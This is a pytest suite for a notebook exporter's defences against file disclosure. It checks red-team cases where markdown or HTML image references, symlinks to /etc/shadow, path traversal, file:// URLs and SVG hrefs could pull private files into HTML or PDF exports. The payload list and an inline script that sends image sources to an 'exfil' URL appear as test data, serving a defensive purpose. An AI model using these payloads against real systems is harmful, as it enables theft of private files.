"""Export reads only what it was given (redteam 2026-11-27 X2, X3; issue #30 §1, §4).

X2: links beside a stranger's notebook (``pic.png -> VICTIM``, ``shadow.png -> /etc/shadow``)
were embedded into the HTML by root's nbconvert. X3: a kernel's ``Markdown("![notes](private.txt)")``
made root's export embed a 0600 file of the notebook's directory, and the PDF printed a
root-only PNG. Now nbconvert runs as a leased uid that can read no private file, a
markdown cell's path is embedded only when ``realpath`` shows a regular, single-link image
file inside the notebook's directory, and a kernel's output never reads a file. Every
payload here, old and new, must leave the secret out and the export must still succeed.
"""

from __future__ import annotations

import base64
import os
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbfactory import require_chromium

from kernel_agent.notebook.convert import local_image
from kernel_agent.notebook.export import export_notebook

pytestmark = pytest.mark.timeout(300)

SECRET = "ROOT-ONLY-VICTIM-CONTENT-x2"
PRIVATE = "PRIVATE-NOTES-IN-NOTEBOOK-DIR-x3"
ROOT = os.geteuid() == 0
needs_root = pytest.mark.skipif(not ROOT, reason="the uid switch is what is tested: needs root")


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A small solid PNG (pdfimages counts it once it is printed)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + bytes(rgb) * width
    raw = zlib.compress(row * height)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


SECRET_PNG = png(123, 45, (200, 10, 10))
OK_PNG = png(31, 17, (10, 200, 10))


@pytest.fixture
def scene() -> Iterator[Path]:
    """A world-readable notebook dir (``nbs``) beside a private one (``outside``), holding:
    a link to a 0600 file outside, a link to /etc/shadow, a 0600 file and PNG inside, a hard
    link to a 0600 file, a link inside to a 0600 file inside, and one allowed image."""
    base = Path(tempfile.mkdtemp(prefix="ka-x2-"))
    base.chmod(0o755)
    outside = base / "outside"
    outside.mkdir(mode=0o700)
    victim = outside / "victim.png"
    victim.write_text(SECRET)
    victim.chmod(0o600)
    nbs = base / "nbs"
    nbs.mkdir(mode=0o755)
    (nbs / "pic.png").symlink_to(victim)  # X2
    (nbs / "shadow.png").symlink_to("/etc/shadow")  # X2
    (nbs / "private.txt").write_text(PRIVATE)  # X3
    (nbs / "private.txt").chmod(0o600)
    (nbs / "secret.png").write_bytes(SECRET_PNG)  # X3, PDF variant
    (nbs / "secret.png").chmod(0o600)
    hidden = nbs / "hidden.png"
    hidden.write_text(SECRET)
    hidden.chmod(0o600)
    os.link(hidden, nbs / "hard.png")  # a hard link, as a bundle can bring one
    (nbs / "inner.png").symlink_to("secret.png")  # a link inside the dir to a 0600 file
    (nbs / "ok.png").write_bytes(OK_PNG)
    (nbs / "ok.png").chmod(0o644)
    yield nbs
    shutil.rmtree(base, ignore_errors=True)


PAYLOADS = [
    "![chart](pic.png)",  # X2
    '<img src="shadow.png">',  # X2
    "![notes](private.txt)",  # X3
    "![fig](secret.png)",  # X3 (PDF)
    '<img src="../outside/victim.png">',
    "![up](../outside/victim.png)",
    "![hard](hard.png)",
    "![inner](inner.png)",
    "![hidden](hidden.png)",
    "![f](file:///etc/shadow)",
    '<img src="file://{victim}">',
    '<svg width="10" height="10"><image href="secret.png" width="10" height="10"/></svg>',
    '<svg width="10" height="10"><image xlink:href="../outside/victim.png"/></svg>',
]
EXFIL = (
    "<script>addEventListener('load', () => { for (const im of document.images) "
    "fetch('http://127.0.0.1:9/exfil?' + im.src); });</script>"
)


def stranger(nbs: Path) -> Path:
    victim = nbs.parent / "outside" / "victim.png"
    markdown = "\n\n".join(p.format(victim=victim) for p in PAYLOADS) + "\n\n![ok](ok.png)"
    cell = nbformat.v4.new_code_cell("display(Markdown(...))")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={"text/markdown": markdown}),
        nbformat.v4.new_output(
            "display_data", data={"text/html": markdown + EXFIL, "text/plain": "x"}
        ),
    ]
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(markdown), cell])
    nb.metadata["kernel_agent"] = {"task": "look at the chart", "model": "m"}
    path = nbs / "stranger.ipynb"
    nbformat.write(nb, path)
    return path


def leaks(text: str) -> list[str]:
    """Which secrets (as text, or base64 at any alignment) ``text`` holds."""
    found = []
    # the PNG from its pixel data on: its header is any PNG's of that kind
    secrets = {"victim": SECRET.encode(), "private": PRIVATE.encode(), "png": SECRET_PNG[33:]}
    try:
        secrets["shadow"] = Path("/etc/shadow").read_bytes()[:24]
    except OSError:
        pass
    for name, raw in secrets.items():
        forms = [raw.decode("latin-1")] + [
            base64.b64encode(raw[i:])[4:24].decode() for i in range(3)
        ]
        if any(form and form in text for form in forms):
            found.append(name)
    return found


def data_images(page: str) -> list[str]:
    """The images ``<img>`` tags embed (not the template's own CSS icons)."""
    return re.findall(r"<img[^>]*src=\"data:image/[a-z+]+;base64,([A-Za-z0-9+/=]+)\"", page)


@needs_root
def test_html_export_as_root_embeds_no_private_file(scene: Path) -> None:
    out = export_notebook(stranger(scene), to="html")
    page = out.read_text()
    assert leaks(page) == []
    assert "data:text/plain" not in page
    # the allowed image is embedded from the markdown cell, and only from there: a kernel's
    # text/markdown output reads no file
    embedded = [base64.b64decode(d) for d in data_images(page)]
    assert embedded.count(OK_PNG) == 1
    assert 'src="pic.png"' in page and 'src="shadow.png"' in page  # left as references


@needs_root
def test_pdf_export_as_root_prints_no_private_file(scene: Path, tmp_path: Path) -> None:
    require_chromium()
    if not shutil.which("pdfimages") or not shutil.which("pdftotext"):
        pytest.skip("poppler-utils is not installed")
    out = export_notebook(stranger(scene), to="pdf", output=tmp_path / "s.pdf")
    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True).stdout
    assert SECRET not in text and PRIVATE not in text
    listing = subprocess.run(
        ["pdfimages", "-list", str(out)], capture_output=True, text=True, check=True
    ).stdout.splitlines()[2:]
    sizes = {(int(r.split()[3]), int(r.split()[4])) for r in listing}
    assert (123, 45) not in sizes  # the root-only PNG
    assert (31, 17) in sizes  # the allowed one is printed


@needs_root
def test_the_exporter_runs_as_a_uid_that_cannot_read_root_files(scene: Path) -> None:
    """The rules alone would embed ``secret.png`` (a regular single-link image inside the
    dir, which root may read); the worker's uid cannot open it."""
    assert local_image(str(scene), "secret.png") is not None  # in-process, as root
    cell = nbformat.v4.new_markdown_cell("![a](secret.png) ![b](ok.png)")
    path = scene / "own.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=[cell]), path)
    page = export_notebook(path, to="html", provenance=False).read_text()
    assert [base64.b64decode(d) for d in data_images(page)] == [OK_PNG]


@needs_root
def test_a_private_notebook_dir_embeds_nothing_and_still_exports(scene: Path) -> None:
    """X3's layout: NBDIR is 0700 root. Nothing in it can be embedded, not even images
    every user could read in a dir they could enter."""
    path = stranger(scene)
    scene.chmod(0o700)
    try:
        page = export_notebook(path, to="html").read_text()
    finally:
        scene.chmod(0o755)
    assert leaks(page) == [] and data_images(page) == []


def test_the_rules_hold_in_process_too(scene: Path) -> None:
    """What a non-root exporter (in-process) would read: never a link out, a hard link,
    a non-image, a URL or an absolute path."""
    for src in ("pic.png", "shadow.png", "private.txt", "hard.png", "../outside/victim.png",
                "file:///etc/shadow", str(scene / "ok.png"), "ok.png?x=1", "nbs/../ok.png#x"):  # fmt: skip
        assert local_image(str(scene), src) is None, src
    assert (
        local_image(str(scene), "ok.png")
        == "data:image/png;base64," + base64.b64encode(OK_PNG).decode()
    )
    assert local_image(str(scene), "ok.png", limit=10) is None  # past the size bound


def test_a_missing_attachment_is_a_broken_image_not_an_error(tmp_path: Path) -> None:
    cell = nbformat.v4.new_markdown_cell("![a](attachment:nope.png)")
    path = tmp_path / "att.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=[cell]), path)
    page = export_notebook(path, to="html").read_text()
    assert 'src="attachment:nope.png"' in page


# ------------------------------------------------------------------------- V1
BAD_RECORDS = [
    "x",  # V1
    [1],  # V1
    ["ab"],  # V1: was read as {"a": "b"}
    7,
    None,
    {  # every field of the wrong type
        "task": ["t"],
        "model": {"m": 1},
        "status": 3,
        "usage": "u",
        "cost": "c",
        "model_time_s": "1",
        "kernel_time_s": None,
        "duration_s": float("inf"),
        "budget": {"limits": {"cells": "TEN-WRONG"}, "used": [1], "stopped_by": 4},
        "verify": {"verdict": 1, "first_difference": {"problems": "p", "code_cell": "c"}},
        "sandbox": "bwrap",
        "started": 1,
        "ended": [],
        "transcript": 5,
        "host_helpers": "yes",
    },  # fmt: skip
]


def cli(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "KERNEL_AGENT_"))}
    src = str(Path(__file__).resolve().parents[1] / "src")
    return subprocess.run(
        [sys.executable, "-m", "kernel_agent", *args], capture_output=True, text=True,
        cwd=cwd, timeout=240, env={**env, "PYTHONPATH": src},
    )  # fmt: skip


def no_traceback(proc: subprocess.CompletedProcess[str]) -> list[str]:
    lines = [ln for ln in proc.stderr.splitlines() if ln and not ln.startswith("[IPKernelApp]")]
    assert "Traceback" not in proc.stderr, proc.stderr
    return lines


def with_record(path: Path, record: object) -> Path:
    cell = nbformat.v4.new_code_cell("print(6 * 7)")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="42\n")]
    cell.execution_count = 1
    nb = nbformat.v4.new_notebook(cells=[cell])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    nb.metadata["kernel_agent"] = record
    path.write_text(nbformat.writes(nb))
    return path


@pytest.mark.parametrize("record", BAD_RECORDS, ids=lambda r: type(r).__name__)
def test_v1_export_reads_a_bad_record_as_none(record: object, tmp_path: Path) -> None:
    path = with_record(tmp_path / "odd.ipynb", record)
    proc = cli(["export", str(path), "--to", "html"], tmp_path)
    assert no_traceback(proc) == [] and proc.returncode == 0
    page = (tmp_path / "odd.html").read_text()
    assert "42" in page
    if isinstance(record, dict):  # a record: its header, none of the wrong-typed values
        assert "provenance" in page and "TEN-WRONG" not in page and "BWRAP-WRONG" not in page


def test_v1_verify_reads_a_bad_record_as_none(tmp_path: Path) -> None:
    for i, record in enumerate(BAD_RECORDS[:3] + BAD_RECORDS[-1:]):
        path = with_record(tmp_path / f"odd{i}.ipynb", record)
        proc = cli(["verify", str(path), "--record", "--sandbox", "none"], tmp_path)
        assert [ln for ln in no_traceback(proc) if "unsandboxed" not in ln] == [], proc.stderr
        assert proc.returncode == 0 and "reproduced: 1/1" in proc.stdout
        verdict = nbformat.read(path, as_version=4).metadata["kernel_agent"]["verify"]
        assert verdict["verdict"] == "reproduced"  # the bad record was replaced, not crashed on


@pytest.mark.parametrize("installs", [["ab"], "numpy==1", {"numpy": 1}])
def test_v1_bad_installs_are_one_line_and_refused(installs: object, tmp_path: Path) -> None:
    path = with_record(tmp_path / "inst.ipynb", {"task": "t", "installs": installs})
    proc = cli(["verify", str(path), "--install", "any", "--sandbox", "none"], tmp_path)
    lines = [ln for ln in no_traceback(proc) if "unsandboxed" not in ln]
    assert proc.returncode != 0 and len(lines) == 1, proc.stderr
    assert lines[0].startswith("kernel-agent: error: ") and "installs" in lines[0]


# ------------------------------------------------- X3 through a real sandboxed run
@needs_root
@pytest.mark.parametrize("mode", [0o700, 0o755], ids=["private-dir", "open-dir"])
def test_x3_a_kernels_markdown_output_embeds_nothing_of_the_notebooks_dir(
    fake_llm: Any, mode: int
) -> None:
    """The review's run: ``--cwd VIEW --notebook NBDIR/run3.ipynb``, the kernel names files of
    NBDIR it cannot read, and a script that would send embedded files out; then root exports
    to HTML and PDF. With NBDIR 0700 (the review's) and 0755 (make demo's open layout)."""
    from fake_openai import run_cell, text

    from kernel_agent.sandbox import bwrap_problem

    if bwrap_problem()[0] is not None:
        pytest.skip(f"no bwrap sandbox here: {bwrap_problem()[0]}")
    base = Path(tempfile.mkdtemp(prefix="ka-x3-"))
    try:
        base.chmod(0o755)
        view, nbdir = base / "view", base / "nbdir"
        view.mkdir()
        nbdir.mkdir(mode=mode)
        nbdir.chmod(mode)
        for name, data in (("private.txt", PRIVATE.encode()), ("secret.png", SECRET_PNG)):
            (nbdir / name).write_bytes(data)
            (nbdir / name).chmod(0o600)
        cell = (
            "from IPython.display import display, Markdown, HTML\n"
            "display(Markdown('![notes](private.txt) ![fig](secret.png) "
            '<img src="secret.png"> ![up](../nbdir/private.txt)\'))\n'
            f"display(HTML({EXFIL!r}))\n"
        )
        fake_llm.enqueue(run_cell(cell), text("Shown."))
        nb = nbdir / "run3.ipynb"
        run = cli(
            ["run", "--base-url", fake_llm.base_url, "--model", "t", "--sandbox", "bwrap",
             "--cwd", str(view), "--notebook", str(nb), "show the notes"], base,
        )  # fmt: skip
        assert run.returncode == 0, run.stderr
        html = cli(["export", str(nb), "--to", "html"], base)
        assert html.returncode == 0, html.stderr
        page = nb.with_suffix(".html").read_text()
        assert 'src="private.txt"' in page  # the output is there, as a reference
        assert leaks(page) == [] and "data:text/plain" not in page
        if shutil.which("pdfimages") and shutil.which("chromium"):
            pdf = cli(["export", str(nb), "--to", "pdf"], base)
            assert pdf.returncode == 0, pdf.stderr
            listing = subprocess.run(
                ["pdfimages", "-list", str(nb.with_suffix(".pdf"))], capture_output=True,
                text=True, check=True,
            ).stdout  # fmt: skip
            assert " 123 " not in listing  # the root-only PNG is not printed
    finally:
        shutil.rmtree(base, ignore_errors=True)
